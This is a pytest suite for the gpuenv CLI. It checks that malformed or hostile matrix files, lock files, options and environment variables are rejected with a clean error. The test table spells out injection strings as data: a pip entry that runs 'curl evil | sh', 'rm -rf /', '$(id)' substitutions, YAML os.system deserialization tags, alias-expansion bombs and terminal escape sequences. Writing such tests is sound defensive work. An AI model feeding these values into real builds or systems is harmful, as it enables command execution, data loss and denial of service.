"""Hostile inputs that must fail before the engine is reached: matrix files, lock files, CLI
options of every verb, environment variables and CA bundles.

One table. Each case runs the real CLI in-process (tests/unit/cli_runner.py on gpuenv.cli.app)
from a fresh temporary directory, with DOCKER_HOST pointing at a socket that does not exist
(so reaching the engine would show as the wrong error), and must give: its exit code (1; 2
for usage errors; 125 for `run`'s own failures), exactly one stderr line starting with
``error: `` that names the file (and line) or the option, no traceback, nothing on stdout,
nothing new in the directory, and no gpuenv temporary file left in the system's temp dir.
"""

from __future__ import annotations

import json
import os
import tempfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from cli_runner import CliRunner

from gpuenv.cli import app

BASE = """\
name: acme/gpuenv
matrix:
  tensorflow: ["2.21"]
  python: ["3.11"]
  variant: [cpu, gpu]
bases:
  "3.11": {debian: bookworm}
"""
PEM_BEGIN = "-----BEGIN CERTIFICATE-----"
NO_ENGINE = "unix:///nonexistent/gpuenv-hostile/docker.sock"


@dataclass
class Case:
    id: str
    args: list[str]  # "{m}" is the matrix path, "{d}" the temporary directory
    says: str  # a fragment of the error line
    code: int = 1
    matrix: str | bytes | None = BASE  # matrix.yaml's content (None: no file)
    lock: str | bytes | None = None  # matrix.lock's content
    env: dict[str, str] = field(default_factory=dict)
    files: dict[str, str | bytes] = field(default_factory=dict)  # more files in {d}
    setup: Callable[[Path], None] | None = None


def q(value: str) -> str:
    return json.dumps(value)


def sub(old: str, new: str) -> str:
    assert old in BASE
    return BASE.replace(old, new, 1)


def add(text: str) -> str:
    return BASE + text


def include(entry: str) -> str:
    return sub("  variant: [cpu, gpu]\n", f"  variant: [cpu, gpu]\n  include:\n    - {entry}\n")


MATRIX_VERBS = (["matrix", "-f", "{m}"], ["render", "-f", "{m}", "-o", "{d}/out"])
# The CA bundle is read by the verbs that fetch packages (`build` first of all), not by
# `matrix` or `render`: nothing rendered holds it.
CA_VERB = ["build", "-f", "{m}"]

# ----------------------------------------------------------------- matrix.yaml contents

_matrix_contents: list[tuple[str, str | bytes, str]] = [
    # types
    ("name-is-a-number", sub("name: acme/gpuenv", "name: 42"), ":1:"),
    ("name-is-a-list", sub("name: acme/gpuenv", "name: [a, b]"), ":1:"),
    ("name-is-null", sub("name: acme/gpuenv", "name:"), ":1:"),
    (
        "matrix-is-a-string",
        add("").replace(
            'matrix:\n  tensorflow: ["2.21"]\n  python: ["3.11"]\n  variant: [cpu, gpu]\n',
            "matrix: everything\n",
        ),
        ":2:",
    ),
    ("tensorflow-is-a-float", sub('tensorflow: ["2.21"]', "tensorflow: [2.21]"), ":3:"),
    ("tensorflow-is-a-mapping", sub('tensorflow: ["2.21"]', "tensorflow: {a: 1}"), ":3:"),
    # Issue 35, L11: the typo is named, not the key it leaves missing.
    ("python-misspelt", sub('python: ["3.11"]', 'pyhton: ["3.11"]'), "unknown key 'matrix.pyhton'"),
    ("python-is-a-bool", sub('python: ["3.11"]', "python: [true]"), ":4:"),
    ("python-empty-list", sub('python: ["3.11"]', "python: []"), ":4:"),
    ("variant-unknown", sub("variant: [cpu, gpu]", "variant: [tpu]"), ":5:"),
    ("variant-is-int", sub("variant: [cpu, gpu]", "variant: [1]"), ":5:"),
    ("bases-is-a-list", sub('  "3.11": {debian: bookworm}', "  - bookworm"), ":6:"),
    ("base-both-kinds", sub("{debian: bookworm}", '{debian: bookworm, image: "debian:12"}'), ":7:"),
    ("base-unknown-suite", sub("{debian: bookworm}", "{debian: sid}"), ":7:"),
    ("packages-pip-is-a-string", add("packages:\n  pip: numpy\n"), ":9:"),
    ("packages-apt-is-a-mapping", add("packages:\n  apt: {a: b}\n"), ":9:"),
    ("default-names-no-cell", add('default: {tensorflow: "2.17", python: "3.11"}\n'), ""),
    ("aliases-is-a-list", add("aliases: [latest]\n"), ":8:"),
    # Issue 35, L6: digits are ASCII digits (\\d and int() take fullwidth and Arabic-Indic ones).
    ("python-fullwidth-digits", sub('"3.11": {debian', '"\uff13.\uff11\uff11": {debian'), ":7:"),
    ("python-arabic-digits", sub('python: ["3.11"]', 'python: ["\u0663.\u0661\u0661"]'), ":4:"),
    ("build-index-url-int", add("build:\n  index_url: 5\n"), ":9:"),
    # encodings
    (
        "latin-1",
        BASE.replace("acme/gpuenv", "acme/gpuenv").encode() + "# caf\u00e9\n".encode("latin-1"),
        "not UTF-8",
    ),
    ("utf-16", BASE.encode("utf-16"), "not UTF-8"),
    ("nul-bytes", BASE.encode() + b"\0\0\0", ""),
    ("control-character", add("# \x07 bell\n"), ""),
    ("bom-then-garbage", "\ufeff" + sub("name: acme/gpuenv", "name: [acme"), ""),
    ("only-a-bom", "\ufeff", "expected a mapping"),
    # structure
    # Issue 35, L7: an alias-free document too large is not called a 'billion laughs'.
    ("many-values-no-alias", add("x:\n" + "  - a\n" * 100_001), "more than 100000 values; a"),
    ("deep-nesting-flow", "a: " + "[" * 20000 + "]" * 20000 + "\n", ""),
    (
        "deep-nesting-block",
        "".join(f"{'  ' * i}k{i}:\n" for i in range(3000)) + "  " * 3000 + "v\n",
        "",
    ),
    (
        "billion-laughs",
        "a: &a [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n"
        + "".join(
            f"{n}: &{n} [{', '.join(['*' + p] * 9)}]\n"
            for p, n in zip("abcdefgh", "bcdefghi", strict=True)
        ),
        "aliases expand",
    ),
    ("alias-recursion", "a: &a [*a]\n", ""),
    (
        "merge-key-bomb",
        "a: &a {x: 1}\n"
        + "".join(
            f"m{i}: &m{i} {{<<: [*a" + "".join(f", *m{j}" for j in range(max(0, i - 3), i)) + "]}\n"
            for i in range(1, 40)
        ),
        "",
    ),
    ("duplicate-key-top", add("name: other\n"), "duplicate key"),
    (
        "duplicate-key-nested",
        sub('python: ["3.11"]', 'python: ["3.11"]\n  python: ["3.13"]'),
        "duplicate key",
    ),
    (
        "duplicate-key-flow",
        sub("{debian: bookworm}", "{debian: bookworm, debian: trixie}"),
        "duplicate key",
    ),
    (
        "python-object-apply",
        add('x: !!python/object/apply:os.system ["id"]\n'),
        "unsupported YAML tag",
    ),
    ("python-name-tag", add("x: !!python/name:os.system\n"), "unsupported YAML tag"),
    ("custom-tag", add("x: !vault secret\n"), "unsupported YAML tag"),
    ("binary-tag", add("x: !!binary aGVsbG8=\n"), ":8:"),
    ("two-documents", BASE + "---\n" + BASE, ""),
    ("tabs-indentation", sub("  tensorflow:", "\ttensorflow:"), "malformed YAML"),
    ("huge-int-key", add("9" * 5000 + ": 1\n"), ":8:"),
    ("non-string-key", add("? [a, b]\n: 1\n"), ""),
    ("unicode-lookalike-key", sub("name:", "n\u0430me:"), ":1:"),
    # injection: name
    ("name-uppercase", sub("acme/gpuenv", "Acme/GPUenv"), ":1:"),
    ("name-dotdot", sub("acme/gpuenv", "acme/../etc"), ":1:"),
    (
        "name-newline",
        sub("name: acme/gpuenv", f"name: {q('acme/gpuenv' + chr(10) + 'LABEL x=y')}"),
        ":1:",
    ),
    ("name-space", sub("acme/gpuenv", '"acme/gpu env"'), ":1:"),
    ("name-dollar", sub("acme/gpuenv", '"acme/$(id)"'), ":1:"),
    ("name-absolute-path", sub("acme/gpuenv", "/etc/passwd"), ":1:"),
    ("name-tag-included", sub("acme/gpuenv", "acme/gpuenv:latest"), ":1:"),
    ("name-digest", sub("acme/gpuenv", "acme/gpuenv@sha256:00"), ":1:"),
    ("name-too-long", sub("acme/gpuenv", "a" * 300), ":1:"),
    # injection: pip
    *[
        (f"pip-{slug}", add(f"packages:\n  pip: [{q(req)}]\n"), ":9:")
        for slug, req in [
            ("command-substitution", "numpy$(touch /tmp/pwned)"),
            ("backticks", "numpy`id`"),
            ("newline-run", "numpy\nRUN curl evil | sh"),
            ("semicolon", "numpy; rm -rf /"),
            ("ampersand", "numpy && id"),
            ("pipe", "numpy | sh"),
            ("quote", "numpy'"),
            ("double-quote", 'numpy"'),
            ("backslash", "numpy\\"),
            ("space", "numpy pandas"),
            ("option-injection", "--index-url=https://evil/simple"),
            ("url-requirement", "pkg @ https://evil/x.whl"),
            ("empty", ""),
            ("redirect", "numpy>/etc/passwd"),
            ("glob", "numpy*"),
            ("crlf", "numpy\r\nRUN id"),
            ("nul", "numpy\x00"),
            ("editable", "-e ."),
        ]
    ],
    # injection: apt
    *[
        (f"apt-{slug}", add(f"packages:\n  apt: [{q(pkg)}]\n"), ":9:")
        for slug, pkg in [
            ("space", "lib gomp1"),
            ("semicolon", "libgomp1;id"),
            ("newline", "libgomp1\nRUN id"),
            ("dollar", "libgomp1$(id)"),
            ("option", "-o=APT::x=1"),
            ("uppercase", "LibGomp1"),
            ("path", "../../x.deb"),
            ("empty", ""),
            ("ampersand", "a&b"),
        ]
    ],
    # injection: include values, bases, build
    (
        "include-pip-injection",
        include(f'{{tensorflow: "2.21", variant: cpu, pip: [{q("x; id")}]}}'),
        ":7:",
    ),
    (
        "include-apt-injection",
        include(f'{{tensorflow: "2.21", variant: cpu, apt: [{q("x y")}]}}'),
        ":7:",
    ),
    (
        "include-cuda-injection",
        include(f'{{tensorflow: "2.21", variant: gpu, cuda: {q("12.5; id")}}}'),
        ":7:",
    ),
    ("python-version-injection", sub('python: ["3.11"]', f"python: [{q('3.11 $(id)')}]"), ":4:"),
    (
        "tensorflow-version-injection",
        sub('tensorflow: ["2.21"]', f"tensorflow: [{q('2.21`id`')}]"),
        ":3:",
    ),
    ("base-image-injection", sub("{debian: bookworm}", f"{{image: {q('debian:12 AS x')}}}"), ":7:"),
    (
        "base-image-newline",
        sub("{debian: bookworm}", f"{{image: {q('debian:12' + chr(10) + 'RUN id')}}}"),
        ":7:",
    ),
    ("base-suite-injection", sub("{debian: bookworm}", f"{{debian: {q('bookworm;id')}}}"), ":7:"),
    ("index-url-injection", add(f"build:\n  index_url: {q('https://x/simple $(id)')}\n"), ":9:"),
    ("index-url-credentials", add("build:\n  index_url: https://user:pass@x/simple\n"), ":9:"),
    ("index-url-not-http", add("build:\n  index_url: file:///etc\n"), ":9:"),
    ("index-url-plain-http", add("build:\n  index_url: http://pypi.example/simple\n"), ":9:"),
    ("extra-index-plain-http", add("build:\n  extra_index_urls: [http://10.0.0.1/s]\n"), ":9:"),
    ("extra-index-space", add(f"build:\n  extra_index_urls: [{q('https://a b')}]\n"), ":9:"),
    ("extra-index-quote", add("build:\n  extra_index_urls: [" + q('https://a/"') + "]\n"), ":9:"),
    ("ca-bundle-missing", add("build:\n  ca_bundle: nope.pem\n"), "nope.pem"),
    ("ca-bundle-dev-zero", add("build:\n  ca_bundle: /dev/zero\n"), "/dev/zero"),
    ("ca-bundle-directory", add("build:\n  ca_bundle: /etc\n"), "/etc"),
    ("ca-bundle-newline", add(f"build:\n  ca_bundle: {q('a' + chr(10) + 'b.pem')}\n"), ""),
]

CASES: list[Case] = []
for slug, text, says in _matrix_contents:
    for verb in [CA_VERB] if slug.startswith("ca-bundle") else MATRIX_VERBS:
        CASES.append(Case(f"matrix:{slug}:{verb[0]}", verb, says, matrix=text))

# ----------------------------------------------------------------- matrix file as a path

CASES += [
    Case("file:missing", ["matrix", "-f", "{d}/nope.yaml"], "nope.yaml: no such file"),
    Case("file:directory", ["matrix", "-f", "{d}"], "cannot read"),
    Case("file:dev-zero", ["matrix", "-f", "/dev/zero"], "/dev/zero"),
    Case("file:dev-null", ["matrix", "-f", "/dev/null"], "/dev/null"),
    Case(
        "file:50MB", ["matrix", "-f", "{m}"], "larger than", matrix=BASE + "#" * (50 << 20) + "\n"
    ),
    Case("file:empty", ["matrix", "-f", "{m}"], "expected a mapping", matrix=""),
    Case("file:unreadable-name", ["matrix", "-f", "{d}/\udcff.yaml"], "no such file"),
    # Issue 35, L5: the name reaches the error line escaped, never as a terminal's ESC.
    Case(
        "file:escape-in-name",
        ["matrix", "-f", "{d}/m\x1b]0;owned\x07\x1b[2J.yaml"],
        "m\\x1b]0;owned\\x07\\x1b[2J.yaml:1:",
        files={"m\x1b]0;owned\x07\x1b[2J.yaml": "name: 42\n"},
    ),
    Case(
        "file:env-missing",
        ["matrix"],
        "nope.yaml: no such file",
        env={"GPUENV_MATRIX": "{d}/nope.yaml"},
    ),
    Case(
        "file:env-directory",
        ["render", "-o", "{d}/out"],
        "cannot read",
        env={"GPUENV_MATRIX": "{d}"},
    ),
    Case("file:default-missing", ["matrix"], "matrix.yaml: no such file", matrix=None),
]

# ----------------------------------------------------------------- matrix.lock

GOOD_HASH = "sha256:" + "0" * 64
LOCK_HEAD = 'version: 1\nexclude_newer: "2026-01-01T00:00:00Z"\nbases: {}\n'
CASES += [
    Case(f"lock:{slug}", ["render", "-f", "{m}", "-o", "{d}/out"], says, lock=text)
    for slug, text, says in [
        ("truncated", LOCK_HEAD + "cells:\n  tf2.21-py3.11-cpu:\n    inputs: ab", "matrix.lock"),
        (
            "truncated-mid-string",
            LOCK_HEAD + 'cells: {"tf2.21-py3.11-cpu": {inputs: "ab',
            "matrix.lock",
        ),
        (
            "wrong-version",
            LOCK_HEAD.replace("version: 1", "version: 99") + "cells: {}\n",
            "version",
        ),
        ("no-version", LOCK_HEAD.replace("version: 1\n", "") + "cells: {}\n", "version"),
        (
            "hash-wrong-length",
            LOCK_HEAD + "cells:\n  tf2.21-py3.11-cpu: {inputs: abc, python_env: x}\n",
            "matrix.lock",
        ),
        (
            "hash-not-hex",
            LOCK_HEAD
            + f"cells:\n  tf2.21-py3.11-cpu: {{inputs: sha256:{'z' * 64}, python_env: x}}\n",
            "matrix.lock",
        ),
        (
            "cell-of-another-matrix",
            LOCK_HEAD + f"cells:\n  tf2.17-py3.13-cpu: {{inputs: {GOOD_HASH}, python_env: x}}\n",
            "matrix.lock",
        ),
        (
            "python-object-tag",
            LOCK_HEAD + 'cells: !!python/object/apply:os.system ["id"]\n',
            "matrix.lock",
        ),
        ("python-name-tag", "version: !!python/name:os.system\n", "matrix.lock"),
        ("a-list", "- a\n- b\n", "matrix.lock"),
        ("a-string", "hello\n", "matrix.lock"),
        ("empty", "", "matrix.lock"),
        ("binary", b"\xff\xfe\x00garbage", "matrix.lock"),
        (
            "bases-a-list",
            LOCK_HEAD.replace("bases: {}", "bases: [[a, b, c]]") + "cells: {}\n",
            "matrix.lock",
        ),
        (
            "billion-laughs",
            "a: &a [x,x,x,x,x,x,x,x,x]\n"
            + "".join(
                f"{n}: &{n} [{', '.join(['*' + p] * 9)}]\n"
                for p, n in zip("abcdefgh", "bcdefghi", strict=True)
            ),
            "matrix.lock",
        ),
        ("deep-nesting", "a: " + "[" * 20000 + "]" * 20000 + "\n", "matrix.lock"),
        (
            "exclude-newer-garbage",
            LOCK_HEAD.replace('"2026-01-01T00:00:00Z"', "'$(id)'") + "cells: {}\n",
            "matrix.lock",
        ),
        (
            "python-env-injection",
            LOCK_HEAD
            + f'cells:\n  tf2.21-py3.11-cpu: {{inputs: {GOOD_HASH}, python_env: "x\\nRUN id"}}\n',
            "matrix.lock",
        ),
    ]
]
CASES.append(
    Case(
        "lock:directory",
        ["render", "-f", "{m}", "-o", "{d}/out"],
        "matrix.lock",
        setup=lambda d: (d / "matrix.lock").mkdir(),
    )
)

# ----------------------------------------------------------------- CLI options, per verb

CASES += [
    # usage errors: exit 2 (125 under run), naming the option
    # Issue 35, L1: a directory as the export's target (a traceback before).
    Case("opt:cache-export-directory", ["cache", "export", "{d}", "--no-bases"], "regular file"),
    Case("opt:build-j-0", ["build", "-f", "{m}", "-j", "0"], "'-j' / '--jobs'", code=2),
    Case("opt:build-j-negative", ["build", "-f", "{m}", "-j", "-3"], "--jobs", code=2),
    Case("opt:build-j-word", ["build", "-f", "{m}", "-j", "many"], "--jobs", code=2),
    Case("opt:build-j-huge", ["build", "-f", "{m}", "-j", "9" * 30], "--jobs", code=2),
    Case("opt:build-unknown-option", ["build", "--frobnicate"], "--frobnicate", code=2),
    Case("opt:unknown-verb", ["frobnicate"], "frobnicate", code=2),
    Case("opt:build-f-missing-value", ["build", "-f"], "'-f'", code=2),
    Case(
        "opt:lock-exclude-newer-garbage",
        ["lock", "-f", "{m}", "--exclude-newer", "yesterday"],
        "--exclude-newer",
        code=2,
    ),
    Case(
        "opt:lock-exclude-newer-injection",
        ["lock", "-f", "{m}", "--exclude-newer", "2026-01-01$(id)"],
        "--exclude-newer",
        code=2,
    ),
    Case(
        "opt:lock-exclude-newer-impossible-date",
        ["lock", "-f", "{m}", "--exclude-newer", "2026-13-45"],
        "--exclude-newer",
        code=2,
    ),
    Case(
        "opt:lock-exclude-newer-empty",
        ["lock", "-f", "{m}", "--exclude-newer", ""],
        "--exclude-newer",
        code=2,
    ),
    Case(
        "opt:push-registry-space",
        ["push", "-f", "{m}", "--registry", "bad registry"],
        "--registry",
        code=2,
    ),
    Case(
        "opt:push-registry-uppercase",
        ["push", "-f", "{m}", "--registry", "Host/UPPER"],
        "--registry",
        code=2,
    ),
    Case(
        "opt:push-registry-scheme",
        ["push", "-f", "{m}", "--registry", "https://ghcr.io"],
        "--registry",
        code=2,
    ),
    Case(
        "opt:push-registry-newline",
        ["push", "-f", "{m}", "--registry", "ghcr.io\nx"],
        "--registry",
        code=2,
    ),
    Case("opt:push-registry-empty", ["push", "-f", "{m}", "--registry", ""], "--registry", code=2),
    Case(
        "opt:render-o-is-a-file",
        ["render", "-f", "{m}", "-o", "{d}/afile"],
        "afile",
        files={"afile": "x"},
    ),
    Case("opt:matrix-pattern-matches-nothing", ["matrix", "-f", "{m}", "tf9.*"], "tf9.*"),
    Case(
        "opt:build-ca-bundle-directory",
        ["build", "-f", "{m}", "--ca-bundle", "{d}"],
        "--ca-bundle",
    ),
    Case(
        "opt:build-ca-bundle-missing",
        ["build", "-f", "{m}", "--ca-bundle", "{d}/none.pem"],
        "--ca-bundle",
    ),
    Case(
        "opt:build-ca-bundle-not-pem",
        ["build", "-f", "{m}", "--ca-bundle", "{d}/x.pem"],
        "no PEM",
        files={"x.pem": "hello"},
    ),
    Case(
        "opt:build-ca-bundle-dev-zero",
        ["build", "-f", "{m}", "--ca-bundle", "/dev/zero"],
        "--ca-bundle",
    ),
    Case(
        "opt:build-ca-bundle-binary-pem",
        ["build", "-f", "{m}", "--ca-bundle", "{d}/x.pem"],
        "--ca-bundle",
        files={"x.pem": PEM_BEGIN.encode() + b"\n\xff\xfe\n-----END CERTIFICATE-----\n"},
    ),
    Case(
        "opt:build-ca-bundle-expired",
        ["build", "-f", "{m}", "--ca-bundle", "{d}/old.pem"],
        "expired",
        setup=lambda d: write_cert(d / "old.pem", expired=True),
    ),
    Case(
        "opt:build-ca-bundle-truncated-pem",
        ["build", "-f", "{m}", "--ca-bundle", "{d}/x.pem"],
        "--ca-bundle",
        files={"x.pem": PEM_BEGIN + "\nMIIB\n"},
    ),
    # run: its own failures exit 125
    Case(
        "opt:run-gpus-garbage", ["run", "-f", "{m}", "--gpus", "lots", "true"], "--gpus", code=125
    ),
    Case("opt:run-gpus-zero", ["run", "-f", "{m}", "--gpus", "0", "true"], "--gpus", code=125),
    Case("opt:run-gpus-negative", ["run", "-f", "{m}", "--gpus", "-1", "true"], "--gpus", code=125),
    Case("opt:run-gpus-empty", ["run", "-f", "{m}", "--gpus", "", "true"], "--gpus", code=125),
    Case(
        "opt:run-gpus-device-injection",
        ["run", "-f", "{m}", "--gpus", "device=0;id", "true"],
        "--gpus",
        code=125,
    ),
    Case(
        "opt:run-gpus-device-empty",
        ["run", "-f", "{m}", "--gpus", "device=", "true"],
        "--gpus",
        code=125,
    ),
    Case(
        "opt:run-gpus-unknown-key",
        ["run", "-f", "{m}", "--gpus", "driver=evil", "true"],
        "--gpus",
        code=125,
    ),
    Case(
        "opt:run-gpus-capability-garbage",
        ["run", "-f", "{m}", "--gpus", "capabilities=$(id)", "true"],
        "--gpus",
        code=125,
    ),
    Case("opt:run-gpus-missing-value", ["run", "--gpus"], "--gpus", code=125),
    Case("opt:run-e-no-name", ["run", "-f", "{m}", "-e", "=value", "true"], "-e", code=125),
    Case("opt:run-e-newline", ["run", "-f", "{m}", "-e", "A\nB=1", "true"], "-e", code=125),
    Case("opt:run-e-space-in-name", ["run", "-f", "{m}", "-e", "A B=1", "true"], "-e", code=125),
    Case("opt:run-p-garbage", ["run", "-f", "{m}", "-p", "garbage", "true"], "-p", code=125),
    Case("opt:run-p-port-too-big", ["run", "-f", "{m}", "-p", "70000:80", "true"], "-p", code=125),
    Case(
        "opt:run-p-port-zero-container",
        ["run", "-f", "{m}", "-p", "8080:0", "true"],
        "-p",
        code=125,
    ),
    Case("opt:run-p-protocol", ["run", "-f", "{m}", "-p", "8080:80/http", "true"], "-p", code=125),
    Case(
        "opt:run-p-ip-garbage",
        ["run", "-f", "{m}", "-p", "999.1.1.1:80:80", "true"],
        "-p",
        code=125,
    ),
    Case("opt:run-v-relative-dst", ["run", "-f", "{m}", "-v", "/tmp:data", "true"], "-v", code=125),
    Case(
        "opt:run-v-mode-garbage",
        ["run", "-f", "{m}", "-v", "/tmp:/data:rx", "true"],
        "-v",
        code=125,
    ),
    Case(
        "opt:run-v-too-many-colons",
        ["run", "-f", "{m}", "-v", "/a:/b:ro:x", "true"],
        "-v",
        code=125,
    ),
    Case(
        "opt:run-workdir-relative",
        ["run", "-f", "{m}", "--workdir", "rel", "true"],
        "--workdir",
        code=125,
    ),
    Case("opt:run-unknown-option", ["run", "--frobnicate", "true"], "--frobnicate", code=125),
    Case("opt:run-nothing-to-run", ["run", "-f", "{m}"], "", code=125),
    Case("opt:run-missing-script", ["run", "-f", "{m}", "nope.py"], "nope.py", code=127),
    Case("opt:run-f-directory", ["run", "-f", "{d}", "true"], "cannot read", code=125),
    Case("opt:run-f-dev-zero", ["run", "-f", "/dev/zero", "true"], "/dev/zero", code=125),
    # key files (the review's M8: /dev/zero filled memory, a FIFO hung)
    Case(
        "opt:verify-key-dev-zero",
        ["verify", "localhost:5000/a:b", "--key", "/dev/zero"],
        "--key /dev/zero: not a regular file",
        code=2,
    ),
    Case(
        "opt:verify-key-fifo",
        ["verify", "localhost:5000/a:b", "--key", "{d}/key.pem"],
        "key.pem: not a regular file",
        code=2,
        setup=lambda d: os.mkfifo(d / "key.pem"),
    ),
    Case(
        "opt:verify-key-huge",
        ["verify", "localhost:5000/a:b", "--key", "{d}/key.pem"],
        "larger than 64 KiB",
        code=2,
        files={"key.pem": b"-" * (1 << 20)},
    ),
    Case(
        "opt:push-key-dev-zero",
        ["push", "-f", "{m}", "--attest", "--key", "/dev/zero"],
        "--key /dev/zero: not a regular file",
        code=2,
    ),
    Case(
        "opt:push-key-fifo",
        ["push", "-f", "{m}", "--attest", "--key", "{d}/key.pem"],
        "not a regular file",
        code=2,
        setup=lambda d: os.mkfifo(d / "key.pem"),
    ),
    Case(
        "env:verify-key-dev-zero",
        ["verify", "localhost:5000/a:b"],
        "/dev/zero",
        code=2,
        env={"GPUENV_VERIFY_KEY": "/dev/zero"},
    ),
    Case(
        "opt:validate-gpus-garbage", ["validate", "-f", "{m}", "--gpus", "lots"], "--gpus", code=2
    ),
    Case("opt:diff-one-argument", ["diff", "a"], "", code=2),
    # environment variables gpuenv reads
    Case(
        "env:registry-garbage",
        ["build", "-f", "{m}"],
        "$GPUENV_REGISTRY",
        env={"GPUENV_REGISTRY": "Bad/UPPER"},
    ),
    Case(
        "env:registry-injection",
        ["build", "-f", "{m}"],
        "$GPUENV_REGISTRY",
        env={"GPUENV_REGISTRY": "ghcr.io/$(id)"},
    ),
    Case(
        "env:ca-bundle-directory",
        CA_VERB,
        "$GPUENV_CA_BUNDLE",
        env={"GPUENV_CA_BUNDLE": "{d}"},
    ),
    Case(
        "env:pip-cert-directory",
        CA_VERB,
        "$PIP_CERT",
        env={"PIP_CERT": "{d}"},
    ),
    Case(
        "env:pip-cert-not-pem",
        CA_VERB,
        "$PIP_CERT",
        env={"PIP_CERT": "{d}/x.pem"},
        files={"x.pem": "not a certificate"},
    ),
    Case(
        "env:pip-cert-expired",
        CA_VERB,
        "expired",
        env={"PIP_CERT": "{d}/old.pem"},
        setup=lambda d: write_cert(d / "old.pem", expired=True),
    ),
    Case(
        "env:pip-cert-missing",
        CA_VERB,
        "$PIP_CERT",
        env={"PIP_CERT": "{d}/gone.pem"},
    ),
    Case(
        "env:pip-cert-dev-zero",
        CA_VERB,
        "$PIP_CERT",
        env={"PIP_CERT": "/dev/zero"},
    ),
    Case(
        "env:xdg-cache-is-a-file",
        ["run", "-f", "{m}", "--gpus", "lots", "true"],
        "--gpus",
        code=125,
        env={"XDG_CACHE_HOME": "{d}/afile"},
        files={"afile": "x"},
    ),
    Case(
        "env:reprobe-garbage",
        ["run", "-f", "{m}", "-p", "x", "true"],
        "-p",
        code=125,
        env={"GPUENV_REPROBE": "\n$(id)"},
    ),
]


# A CA certificate valid for one day in January 2020 (made once with `cryptography`; the key
# was thrown away).
EXPIRED_CA = """\
-----BEGIN CERTIFICATE-----
MIIBUzCB+qADAgECAgEBMAoGCCqGSM49BAMCMCkxJzAlBgNVBAMMHmdwdWVudi1o
b3N0aWxlLXRlc3QtZXhwaXJlZC1jYTAeFw0yMDAxMDEwMDAwMDBaFw0yMDAxMDIw
MDAwMDBaMCkxJzAlBgNVBAMMHmdwdWVudi1ob3N0aWxlLXRlc3QtZXhwaXJlZC1j
YTBZMBMGByqGSM49AgEGCCqGSM49AwEHA0IABORlmFkn9y8NsOg6x8vUVh5uuZNK
arBlkTKCDyzizOCG8+/AAWLtEc2EK8VE5V4JbMPBKciiWo45mWNjQoiMy3ijEzAR
MA8GA1UdEwEB/wQFMAMBAf8wCgYIKoZIzj0EAwIDSAAwRQIhAN8Ak3octqyOgP9m
LZPKKHE0Z1cC6hcyh7W4IGcMK/1SAiAthoeiDOM3eG1TP5Pi9pA2TDY3kjpHKlLc
UxTH0zRQWg==
-----END CERTIFICATE-----
"""


def write_cert(path: Path, *, expired: bool) -> None:
    assert expired
    path.write_text(EXPIRED_CA)


def _fill(value: str, d: Path, m: Path) -> str:
    return value.replace("{d}", str(d)).replace("{m}", str(m))


def _tree(root: Path) -> dict[str, float]:
    return {str(p.relative_to(root)): p.stat().st_mtime for p in sorted(root.rglob("*"))}


def test_the_table_is_large_enough():
    assert len(CASES) >= 100
    assert len({c.id for c in CASES}) == len(CASES)


@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
def test_hostile_input(case: Case, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    d = tmp_path / "work"
    d.mkdir()
    m = d / "matrix.yaml"
    if case.matrix is not None:
        data = case.matrix if isinstance(case.matrix, bytes) else case.matrix.encode()
        m.write_bytes(data)
    if case.lock is not None:
        (d / "matrix.lock").write_bytes(
            case.lock if isinstance(case.lock, bytes) else case.lock.encode()
        )
    for name, content in case.files.items():
        (d / name).write_bytes(content if isinstance(content, bytes) else content.encode())
    if case.setup is not None:
        case.setup(d)
    monkeypatch.chdir(d)
    private_tmp = tmp_path / "tmp"  # gpuenv's temporary files, if any, land here
    private_tmp.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(private_tmp))
    env: dict[str, str | None] = {
        "DOCKER_HOST": NO_ENGINE, "DOCKER_CONTEXT": None, "GPUENV_MATRIX": None,
        "GPUENV_REGISTRY": None, "GPUENV_CA_BUNDLE": None, "PIP_CERT": None,
        "XDG_CACHE_HOME": str(tmp_path / "cache"), "TMPDIR": str(tmp_path / "tmp"),
        "HOME": str(tmp_path / "home"),
    }  # fmt: skip
    env.update({k: _fill(v, d, m) for k, v in case.env.items()})
    # "Nothing written" covers gpuenv's cache and HOME too, not only the project directory.
    (tmp_path / "home").mkdir()
    watched = (d, tmp_path / "cache", tmp_path / "home")
    before = [_tree(w) for w in watched]
    result = CliRunner().invoke(app, [_fill(a, d, m) for a in case.args], env=env)
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exc_info
    stderr, stdout = result.stderr, result.stdout
    assert "Traceback" not in stdout + stderr
    assert result.exit_code == case.code, (result.exit_code, stderr)
    assert stdout == "", stdout
    lines = stderr.splitlines()
    assert len(lines) == 1 and stderr.endswith("\n"), stderr
    assert lines[0].startswith("error: "), lines[0]
    assert case.says in lines[0], lines[0]
    assert NO_ENGINE not in lines[0] and "engine" not in lines[0].lower(), lines[0]
    assert not any(c < " " or c == "\x7f" for c in lines[0]), repr(lines[0])  # no raw escapes
    assert [_tree(w) for w in watched] == before, "files were written"
    assert list(private_tmp.iterdir()) == [], "temporary files were left"


def test_render_reads_no_ca_bundle(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A broken $PIP_CERT stops the verbs that fetch (above), not `render`: no rendered file
    depends on the bundle any more (gpuenv/store/ca.py), so it is never opened there."""
    monkeypatch.chdir(tmp_path)
    (tmp_path / "matrix.yaml").write_text(BASE)
    env = {"DOCKER_HOST": NO_ENGINE, "PIP_CERT": "/dev/zero", "GPUENV_CA_BUNDLE": None,
           "GPUENV_MATRIX": None, "XDG_CACHE_HOME": str(tmp_path / "cache")}  # fmt: skip
    result = CliRunner().invoke(app, ["render", "-f", "matrix.yaml", "-o", "out"], env=env)
    assert result.exit_code == 0, result.stderr
    assert sorted(p.name for p in (tmp_path / "out").iterdir()) == [
        "tf2.21-py3.11-cpu",
        "tf2.21-py3.11-cuda12.5-gpu",
    ]
